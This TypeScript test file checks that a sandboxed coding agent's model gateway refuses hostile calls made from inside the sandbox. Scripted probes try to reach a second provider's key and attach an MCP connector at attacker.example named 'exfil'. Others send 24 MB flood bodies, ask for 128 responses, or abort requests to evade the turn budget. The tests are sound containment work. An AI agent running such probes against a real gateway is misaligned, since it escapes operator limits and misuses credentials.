// The model gateway is not a confused deputy (issue 10 items 2 and 3), with real Pi in the real
// image through ContainerPiAgent, and code in the sandbox that calls the gateway itself:
// - only the run's provider is routed: a second provider's key cannot be spent from inside;
// - a request for another model, with provider-side tools (MCP connectors, web fetch) or an
//   unknown beta flag is refused with its reason and never reaches the upstream;
// - giving up on requests while the upstream holds its answer does not refund the turn budget;
// - models.json `!command` values run once, when the run starts, and never for --dry-run;
// - Pi's own exchanges form one conversation on every api; a direct call is off-chain.
import { spawnSync } from "node:child_process";
import fs from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import {
  type ChatRequest,
  SCRIPTED_APIS,
  type ScriptContext,
  type ScriptedApi,
  type ScriptStep,
  scriptedBaseUrlFor,
} from "../../src/scripted-model/scripted-model-server.js";
import { SECRET_KEY } from "../support/harness.js";
import {
  bash,
  describeOutcome,
  finish,
  hostilePolicy,
  hostileWorkspace,
  runHostile,
  useHostileModelServer,
} from "../support/hostile-model.js";

const server = useHostileModelServer();
const REPO_ROOT = fileURLToPath(new URL("../..", import.meta.url));
const SECOND_KEY = "sk-second-provider-SECRET-8e41d0";

interface Attempt {
  name: string;
  path: string;
  body: unknown;
  headers?: Record<string, string>;
  /** The client gives up (aborts) after this long. */
  giveUpMs?: number;
}

/** A bash step that calls the gateway directly (see probeCommand). */
function probe(attempts: Attempt[]): ScriptStep {
  return bash(probeCommand(attempts));
}

/** Shell that runs a Node script inside the sandbox, printing one `name=status message` line per attempt. */
function probeCommand(attempts: Attempt[]): string {
  const script = `
const attempts = ${JSON.stringify(attempts)};
for (const a of attempts) {
  try {
    const res = await fetch("http://127.0.0.1:18080" + a.path, {
      method: "POST",
      headers: { "content-type": "application/json", ...a.headers },
      body: JSON.stringify(a.body),
      signal: AbortSignal.timeout(a.giveUpMs ?? 15000),
    });
    const text = await res.text();
    let message = text;
    try { message = JSON.parse(text).error.message; } catch {}
    console.log(a.name + "=" + res.status + " " + String(message).slice(0, 400).replace(/\\n/g, " "));
  } catch (error) {
    console.log(a.name + "=gave-up " + error.name);
  }
}`;
  return `cat > /tmp/probe.mjs <<'PROBE_EOF'\n${script}\nPROBE_EOF\nnode /tmp/probe.mjs`;
}

/** Runs `first` (built from the run's model id) as the model's first step, then the final tool. */
function withModelId(first: (modelId: string) => ScriptStep) {
  return (_request: ChatRequest, turn: number, context: ScriptContext): ScriptStep =>
    turn === 0 ? first(context.conversation.model) : turn === 1 ? finish() : { text: "Done." };
}

/** A models.json whose "scripted" provider speaks `api` (the scripted server serves each at its own base URL). */
function modelsFor(api: ScriptedApi, extraProviders: Record<string, unknown> = {}) {
  return (modelId: string) => ({
    providers: {
      scripted: {
        baseUrl: scriptedBaseUrlFor(new URL(server.baseUrl).origin, api),
        api,
        apiKey: SECRET_KEY,
        models: [{ id: modelId, contextWindow: 32000, maxTokens: 4096 }],
      },
      ...extraProviders,
    },
  });
}

async function listen(handler: http.RequestListener) {
  const httpServer = http.createServer(handler);
  await new Promise<void>((resolve) => httpServer.listen(0, "127.0.0.1", resolve));
  return {
    origin: `http://127.0.0.1:${(httpServer.address() as AddressInfo).port}`,
    close: () =>
      new Promise<void>((resolve) => {
        httpServer.closeAllConnections();
        httpServer.close(() => resolve());
      }),
  };
}

describe.concurrent("the gateway as a deputy", () => {
  it("routes only the run's provider: a second provider's key is unreachable from the sandbox", async () => {
    const seen: Array<{ url: string; authorization?: string }> = [];
    const second = await listen((req, res) => {
      seen.push({ url: req.url ?? "", authorization: req.headers.authorization });
      req.resume();
      res.writeHead(200, { "content-type": "application/json" }).end("{}");
    });
    try {
      const secondProvider = {
        second: {
          baseUrl: `${second.origin}/v1`,
          api: "openai-completions",
          apiKey: SECOND_KEY,
          models: [{ id: "second-model" }],
        },
      };
      const chat = (model: string) => ({ model, messages: [{ role: "user", content: "spend" }] });
      const outcome = await runHostile(
        server,
        withModelId(() =>
          bash(
            [
              `node -e 'console.log("providers=" + Object.keys(JSON.parse(require("fs").readFileSync(process.env.PI_CODING_AGENT_DIR + "/models.json")).providers).join(","))'`,
              probeCommand([
                { name: "second-route", path: "/second/chat/completions", body: chat("second-model") },
                { name: "second-model-on-run-route", path: "/scripted/chat/completions", body: chat("second-model") },
              ]),
            ].join("\n"),
          ),
        ),
        { modelsJson: modelsFor("openai-completions", secondProvider) },
      );
      expect(outcome.details, describeOutcome(outcome)).toBeDefined();
      // Nothing reached the second provider, with its key or without.
      expect(seen).toEqual([]);
      const printed = outcome.toolResults[0] ?? "";
      expect(printed).not.toContain(SECOND_KEY);
      expect(printed).toMatch(/^second-route=403 .*unknown route "second"/m);
      expect(printed).toMatch(/^second-model-on-run-route=403 .*model "second-model"/m);
      // Pi inside knows only the run's provider.
      expect(printed).toMatch(/^providers=scripted$/m);
      const refused = outcome.events.filter((e) => e.type === "gateway.refused");
      expect(refused.map((e) => e.data.reason)).toEqual(["unknown-route", "request-policy"]);
    } finally {
      await second.close();
    }
  });

  it("refuses another model, provider-side tools and unknown beta flags with reasons; none reaches the upstream", async () => {
    const before = server.requests.length;
    const message = { role: "user", content: "fetch it" };
    const outcome = await runHostile(
      server,
      withModelId((model) => {
        const base = { model, max_tokens: 64, stream: true, messages: [message] };
        return probe([
          { name: "other-model", path: "/scripted/v1/messages", body: { ...base, model: "claude-opus-other" } },
          {
            name: "mcp-servers",
            path: "/scripted/v1/messages",
            body: { ...base, mcp_servers: [{ type: "url", url: "https://attacker.example/mcp", name: "exfil" }] },
          },
          {
            name: "web-fetch",
            path: "/scripted/v1/messages",
            body: { ...base, tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] },
          },
          {
            name: "beta",
            path: "/scripted/v1/messages",
            body: base,
            headers: { "anthropic-beta": "mcp-client-2025-04-04" },
          },
        ]);
      }),
      { modelsJson: modelsFor("anthropic-messages") },
    );
    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
    const printed = lastToolOutput(outcome.events);
    expect(printed).toMatch(/^other-model=403 .*model "claude-opus-other"/m);
    expect(printed).toMatch(/^mcp-servers=403 .*MCP connector/m);
    expect(printed).toMatch(/^web-fetch=403 .*web_fetch_20250910/m);
    expect(printed).toMatch(/^beta=403 .*mcp-client-2025-04-04/m);
    const refused = outcome.events.filter((e) => e.type === "gateway.refused");
    expect(refused.map((e) => e.data.reason)).toEqual(Array(4).fill("request-policy"));
    expect(refused.map((e) => e.data.refused).join("\n")).toMatch(/MCP connector/);
    // The upstream saw Pi's two requests and nothing of the probe's.
    const reached = server.requests.slice(before).filter((r) => r.body.messages?.[0]?.content === "fetch it");
    expect(reached).toEqual([]);
    expect(outcome.requests).toHaveLength(2);
  });

  it("a sandbox that keeps sending bodies the gateway reads and refuses ends its run (limit refusals), and nothing of them reaches the upstream", async () => {
    const before = server.requests.length;
    // 24 MB each, for another model than the run's: read, parsed and refused (each ~0.3 s of the
    // controller's event loop). Past 64 MiB of them the run ends; what follows is refused unread.
    const flood = [
      "cat > /tmp/flood.mjs <<'FLOOD_EOF'",
      'const body = JSON.stringify({ model: "claude-opus-other", max_tokens: 64, messages: [{ role: "user", content: "x".repeat(24 * 1024 * 1024) }] });',
      "for (let i = 1; i <= 6; i++) {",
      "  try {",
      '    const res = await fetch("http://127.0.0.1:18080/scripted/v1/messages", { method: "POST", headers: { "content-type": "application/json" }, body });',
      '    console.log("big" + i + "=" + res.status); await res.text();',
      '  } catch (error) { console.log("big" + i + "=gave-up " + error.name); }',
      "}",
      "FLOOD_EOF",
      "node /tmp/flood.mjs",
    ].join("\n");
    const outcome = await runHostile(server, [bash(flood), finish()], { modelsJson: modelsFor("anthropic-messages") });
    expect(outcome.error?.code, describeOutcome(outcome)).toBe("limit");
    expect(outcome.error?.limit).toBe("refusals");
    expect(outcome.error?.message).toMatch(/refused, 7\d MiB of bodies/);
    const refused = outcome.events.filter((e) => e.type === "gateway.refused").map((e) => e.data.reason);
    expect(refused.slice(0, 3)).toEqual(Array(3).fill("request-policy"));
    const bigOnes = server.requests.slice(before).filter((r) => JSON.stringify(r.body).length > 1024 * 1024);
    expect(bigOnes).toEqual([]);
  });

  it("one response per request, of at most the policy's output cap: n: 128 is refused, max_tokens lowered, a missing limit written in; Pi's own requests pass as sent", async () => {
    const before = server.requests.length;
    const outcome = await runHostile(
      server,
      withModelId((model) => {
        const ask = (content: string, extra: Record<string, unknown> = {}) => ({
          model,
          messages: [{ role: "user", content }],
          ...extra,
        });
        return probe([
          { name: "n128", path: "/scripted/chat/completions", body: ask("many", { n: 128 }) },
          {
            name: "huge",
            path: "/scripted/chat/completions",
            body: ask("huge", { max_tokens: 1_000_000, max_completion_tokens: 500_000 }),
          },
          { name: "unbounded", path: "/scripted/chat/completions", body: ask("unbounded") },
        ]);
      }),
      { modelsJson: modelsFor("openai-completions"), policy: hostilePolicy({ limits: { maxOutputTokens: 8192 } }) },
    );
    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
    const printed = lastToolOutput(outcome.events);
    expect(printed).toMatch(/^n128=403 .*asks for 128 responses \(n\)/m);
    expect(printed).toMatch(/^huge=200 /m);
    expect(printed).toMatch(/^unbounded=200 /m);
    const reached = (content: string) =>
      server.requests.slice(before).filter((r) => r.body.messages?.[0]?.content === content);
    expect(reached("many")).toEqual([]);
    const huge = reached("huge")[0]?.body as Record<string, unknown> | undefined;
    expect(huge).toMatchObject({ max_tokens: 8192, max_completion_tokens: 8192 });
    expect(huge?.n).toBeUndefined();
    expect((reached("unbounded")[0]?.body as Record<string, unknown> | undefined)?.max_completion_tokens).toBe(8192);
    // Pi asks for its model's maxTokens (4096 in this models.json), under the cap: forwarded as sent.
    const pis = outcome.requests.filter((r) => r.body.messages?.[0]?.role === "system");
    expect(pis).toHaveLength(2);
    for (const request of pis) expect((request.body as Record<string, unknown>).max_completion_tokens).toBe(4096);
    const lowered = outcome.events.filter((e) => e.type === "gateway.request" && e.data.outputTokens);
    expect(lowered.map((e) => e.data.outputTokens)).toEqual([{ asked: 1_000_000, sent: 8192 }, { sent: 8192 }]);
  });

  it("a turn budget of 2: 20 direct requests that give up while the upstream holds its answer get 1 generation, then the run stops", async () => {
    let generations = 0;
    let held = 0;
    const scriptedOrigin = new URL(server.baseUrl).origin;
    // In front of the scripted server: requests marked "hold-me" get no answer, ever.
    const holding = await listen((req, res) => {
      const chunks: Buffer[] = [];
      req.on("data", (c: Buffer) => chunks.push(c));
      req.on("end", () => {
        const body = Buffer.concat(chunks);
        if (req.method === "POST") generations++;
        if (body.includes("hold-me")) {
          held++;
          return;
        }
        const forward = http.request(
          `${scriptedOrigin}${req.url}`,
          { method: req.method, headers: req.headers },
          (up) => {
            res.writeHead(up.statusCode ?? 502, up.headers);
            up.pipe(res);
          },
        );
        forward.end(body);
      });
    });
    try {
      const outcome = await runHostile(
        server,
        withModelId((model) =>
          probe(
            Array.from({ length: 20 }, (_, i) => ({
              name: `call${i + 1}`,
              path: "/scripted/chat/completions",
              body: { model, stream: true, messages: [{ role: "user", content: "hold-me" }] },
              giveUpMs: 800,
            })),
          ),
        ),
        {
          maxTurns: 2,
          modelsJson: (modelId) => {
            const models = modelsFor("openai-completions")(modelId);
            models.providers.scripted.baseUrl = `${holding.origin}/v1`;
            return models;
          },
        },
      );
      expect(outcome.error?.code, describeOutcome(outcome)).toBe("limit");
      expect(outcome.error?.limit).toBe("turns");
      // Pi's first request and one held direct call: nothing more reached the upstream.
      expect(generations).toBe(2);
      expect(held).toBe(1);
      const refused = outcome.events.filter((e) => e.type === "gateway.refused");
      expect(refused.length).toBeGreaterThanOrEqual(1);
      // The first past the budget stops the run; from then on the gateway forwards nothing (run-stopped).
      expect(refused[0]!.data.reason).toBe("turn-budget");
      for (const event of refused) expect(["turn-budget", "run-stopped"]).toContain(event.data.reason);
    } finally {
      await holding.close();
    }
  });

  it("runs a models.json !command once, when the run starts; --dry-run runs none", async () => {
    const marker = path.join(hostileWorkspace({}, "sandbox-run-command-marker-"), "ran");
    const commandModels = (modelId: string) => {
      const models = modelsFor("openai-completions")(modelId);
      (models.providers.scripted as Record<string, unknown>).apiKey = `!echo ran >> ${marker}; printf %s ${SECRET_KEY}`;
      return models;
    };
    // The built CLI, as a user runs it.
    const modelsFile = path.join(path.dirname(marker), "models.json");
    fs.writeFileSync(modelsFile, JSON.stringify(commandModels("dry-model")));
    const dry = spawnSync(
      process.execPath,
      [
        path.join(REPO_ROOT, "dist/cli/main.js"),
        "--dry-run",
        "--model",
        "scripted/dry-model",
        "--models",
        modelsFile,
        "--cwd",
        hostileWorkspace(),
        "t",
      ],
      { encoding: "utf8" },
    );
    expect(dry.status, dry.stderr).toBe(0);
    expect(fs.existsSync(marker)).toBe(false);
    expect(JSON.parse(dry.stdout).gatewayRoutes[0].credentialHeaders.authorization).toContain("command");

    const outcome = await runHostile(server, [finish()], { modelsJson: commandModels });
    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
    expect(fs.readFileSync(marker, "utf8")).toBe("ran\n");
    expect(outcome.requests.map((r) => r.headers.authorization)).toEqual([`Bearer ${SECRET_KEY}`]);
  });
});

describe.concurrent("the conversation ledger on real Pi", () => {
  for (const api of SCRIPTED_APIS) {
    it(`${api}: Pi's exchanges are one chain; a direct call from the sandbox is off-chain`, async () => {
      const outcome = await runHostile(
        server,
        (_request: ChatRequest, turn: number, context: ScriptContext): ScriptStep => {
          const model = context.conversation.model;
          if (turn === 0) return bash("echo hello; printf 'ünï €\\n'");
          if (turn === 1) {
            return probe([
              {
                name: "direct",
                path:
                  api === "google-generative-ai"
                    ? `/scripted/models/${model}:streamGenerateContent?alt=sse`
                    : pathOf(api),
                body: directBody(api, model),
              },
            ]);
          }
          if (turn === 2) return bash("echo oops; exit 3");
          return finish();
        },
        { modelsJson: modelsFor(api) },
      );
      expect(outcome.details, describeOutcome(outcome)).toBeDefined();
      const exchanges = outcome.events.filter((e) => e.type === "gateway.exchange").map((e) => e.data);
      // Pi: four requests (bash, probe, bash, final); the probe's own request, third to end, is off-chain.
      expect(exchanges.map((e) => e.chain)).toEqual(["first", "extension", "off", "extension", "extension"]);
      // It has no system prompt of Pi's: another context.
      expect(exchanges.filter((e) => e.chain === "off")).toEqual([
        expect.objectContaining({ reason: "other-context", status: 200 }),
      ]);
    });
  }
});

/** The last tool output Pi reported (tool_execution_end), as text. */
function lastToolOutput(events: Array<{ type: string; data: Record<string, unknown> }>): string {
  const ends = events.filter((e) => e.type === "tool_execution_end");
  const result = ends.at(-2)?.data.result as { content?: Array<{ text?: string }> } | undefined;
  return (result?.content ?? []).map((c) => c.text ?? "").join("");
}

function pathOf(api: ScriptedApi): string {
  switch (api) {
    case "openai-responses":
      return "/scripted/responses";
    case "anthropic-messages":
      return "/scripted/v1/messages";
    case "mistral-conversations":
      return "/scripted/v1/chat/completions";
    default:
      return "/scripted/chat/completions";
  }
}

/** A fresh one-message conversation with the run's model, in the api's own shape. */
function directBody(api: ScriptedApi, model: string): unknown {
  switch (api) {
    case "openai-responses":
      return { model, stream: true, input: [{ role: "user", content: "answer me directly" }] };
    case "anthropic-messages":
      return { model, max_tokens: 64, stream: true, messages: [{ role: "user", content: "answer me directly" }] };
    case "google-generative-ai":
      return { contents: [{ role: "user", parts: [{ text: "answer me directly" }] }] };
    default:
      return { model, stream: true, messages: [{ role: "user", content: "answer me directly" }] };
  }
}
